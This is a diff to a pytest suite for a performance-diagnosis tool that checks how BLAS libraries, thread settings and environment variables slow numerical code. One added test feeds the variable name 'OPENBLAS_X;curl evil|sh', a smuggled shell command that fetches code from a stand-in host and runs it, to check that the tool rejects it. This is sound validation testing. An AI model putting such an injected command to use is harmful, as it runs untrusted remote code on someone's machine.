@@ -9,6 +9,8 @@ import pytest
 
 from gemmscope.analysis import diagnosis
 from gemmscope.analysis.diagnosis import causes
+from gemmscope.analysis.diagnosis.judging import is_settled
+from gemmscope.analysis.diagnosis.suspicion import investigated
 from gemmscope.analysis.view import View
 from gemmscope.records.evidence import (
     InstructionProfile,
@@ -31,10 +33,12 @@ from tests.builders import (
 )
 
 AVX512 = ["avx", "avx2", "avx512bw", "avx512dq", "avx512f", "avx512vl", "fma", "sse", "sse4_2"]
-OPENBLAS = LibraryThreads(image="/x/numpy.libs/libscipy_openblas64_-1.so", kind="OpenBLAS", threads=2, core="SkylakeX")
-MKL = LibraryThreads(image="/x/torch/lib/libtorch_cpu.so", kind="MKL", threads=2)
-OPENMP = LibraryThreads(image="/x/torch/lib/libgomp.so.1", kind="OpenMP", threads=2)
-REFERENCE = LibraryThreads(image="/x/mlx_cpu.libs/libblas-1.so", kind="reference BLAS", threads=1)
+OPENBLAS = LibraryThreads(
+    image="/v/site-packages/numpy.libs/libscipy_openblas64_-1.so", kind="OpenBLAS", threads=2, core="SkylakeX"
+)
+MKL = LibraryThreads(image="/v/site-packages/torch/lib/libtorch_cpu.so", kind="MKL", threads=2)
+OPENMP = LibraryThreads(image="/v/site-packages/torch/lib/libgomp.so.1", kind="OpenMP", threads=2)
+REFERENCE = LibraryThreads(image="/v/site-packages/mlx_cpu.libs/libblas-1.so", kind="reference BLAS", threads=1)
 
 FAST, SLOW = (1.0, 1.01, 0.99), (2.0, 2.02, 1.98)
 SAME = (2.01, 2.0, 2.0)
@@ -111,12 +115,12 @@ class TestEnvironmentVariables:
             "OPENBLAS_CORETYPE=Haswell is set, so OpenBLAS uses AVX2 kernels (Haswell) on a CPU with AVX-512"
             in found.text
         )
-        assert "runs at 50 % of the speed it could have at 1024" in found.text
+        assert "runs at 50 % of the speed it could reach at 1024" in found.text
 
     def test_one_that_does_not_is_refuted(self):
         found = the(run(variants={"numpy-cpu:OPENBLAS_CORETYPE=": SAME}, **HASWELL), "environment-variable")
         assert (found.verdict, found.matters, found.remedy) == ("refuted", False, "")
-        assert "so that is not why" in found.text
+        assert "so this is not the cause" in found.text
 
     def test_one_that_nobody_tried_is_untested(self):
         found = the(run(**HASWELL), "environment-variable")
@@ -338,15 +342,65 @@ class TestMachine:
 
 
 def test_remedies_are_measured_together():
-    worker = {"variables": {"OMP_NUM_THREADS": "1"}}
-    tried = {"torch-cpu:OMP_NUM_THREADS=": (1.5, 1.5, 1.51), "torch-cpu:blas=openblas": (1.2, 1.2, 1.21),
-             "torch-cpu:blas=openblas+OMP_NUM_THREADS=": (0.8, 0.8, 0.81)}  # fmt: skip
+    capped = [OPENBLAS, msgspec.structs.replace(MKL, threads=1), OPENMP]
+    worker = {"variables": {"OMP_NUM_THREADS": "1"}, "libraries": capped}
+    tried = {
+        "torch-cpu:OMP_NUM_THREADS=": (1.5, 1.5, 1.51),
+        # Nothing but the BLAS changes: it has the one thread that PyTorch has.
+        "torch-cpu:blas=openblas+OPENBLAS_NUM_THREADS=1": (1.2, 1.2, 1.21),
+        "torch-cpu:blas=openblas+OMP_NUM_THREADS=": (0.8, 0.8, 0.81),
+    }
     result = run("torch-cpu", worker=worker, machine={"vendor": "AuthenticAMD"}, variants=tried)
     found = the(result, "combined")
     assert found.verdict == "confirmed"
     assert found.gain.estimate == pytest.approx(2.5, rel=0.02)
     assert "unset OMP_NUM_THREADS" in found.remedy
+    assert "OPENBLAS_NUM_THREADS" not in found.remedy
+    assert the(result, "mkl-on-amd").remedy.startswith("OPENBLAS_NUM_THREADS=1 LD_PRELOAD=")
     assert diagnoses(result)[0].id == "combined"
+
+
+def test_remedies_of_operands_and_environment_come_together():
+    tried = {"numpy-cpu": (1.5, 1.5, 1.51), "numpy-cpu:strided+OPENBLAS_CORETYPE=": (1.2, 1.2, 1.21),
+             "numpy-cpu:OPENBLAS_CORETYPE=": (0.8, 0.8, 0.81)}  # fmt: skip
+    result = run("numpy-cpu:strided", variants=tried, **HASWELL)
+    assert the(result, "combined").experiments[0].variant == "numpy-cpu:OPENBLAS_CORETYPE="
+
+
+def test_threads_that_are_bound_leave_no_fair_comparison_with_another_blas():
+    worker = {"variables": {"GOMP_CPU_AFFINITY": "0"}}
+    found = the(run("torch-cpu", worker=worker, machine={"vendor": "AuthenticAMD"}), "mkl-on-amd")
+    assert found.verdict == "not testable"
+    assert "GOMP_CPU_AFFINITY binds its threads" in found.reason
+
+
+def test_two_sets_that_agree_settle_nothing_yet():
+    worker = {"variables": {"OPENBLAS_CORETYPE": "Haswell"}}
+    result = run(seconds=(2.0, 2.0), variants={"numpy-cpu:OPENBLAS_CORETYPE=": (1.0, 1.0)}, worker=worker)
+    (one,) = [each for tried in investigated(View(result, experiments=True))[1].values() for each in tried
+              if each.trial.variant == "numpy-cpu:OPENBLAS_CORETYPE="]  # fmt: skip
+    assert one.is_confirmed
+    assert not is_settled(one, 0.025)
+
+
+def test_a_refuted_cause_is_settled_however_wide_its_interval():
+    worker = {"variables": {"OPENBLAS_CORETYPE": "Haswell"}}
+    result = run(variants={"numpy-cpu:OPENBLAS_CORETYPE=": (4.0, 4.4, 3.6)}, worker=worker)
+    measured = investigated(View(result, experiments=True))[1]
+    assert any(is_settled(each, 0.025) for tried in measured.values() for each in tried)
+
+
+def test_a_name_that_no_shell_could_set_is_no_variable():
+    assert diagnoses(run(worker={"variables": {"OPENBLAS_X;curl evil|sh": "1"}}), "environment-variable") == []
+
+
+def test_a_second_variable_does_not_make_results_more_exact():
+    worker = {"variables": {"NVIDIA_TF32_OVERRIDE": "1", "CUDA_LAUNCH_BLOCKING": "1"}, "libraries": []}
+    tried = {"torch-gpu:CUDA_LAUNCH_BLOCKING=": (0.5, 0.5, 0.51), "torch-gpu:NVIDIA_TF32_OVERRIDE=": SLOW}
+    result = run("torch-gpu", FAST, worker=worker, variants=tried, cell={"precision": "tf32"})
+    told = {one.subject: one.text for one in diagnoses(result, "environment-variable") if one.verdict == "confirmed"}
+    assert "reduced precision" in told["NVIDIA_TF32_OVERRIDE"]
+    assert "reduced precision" not in told["CUDA_LAUNCH_BLOCKING"]
 
 
 def test_reduced_precision_that_nothing_explains():
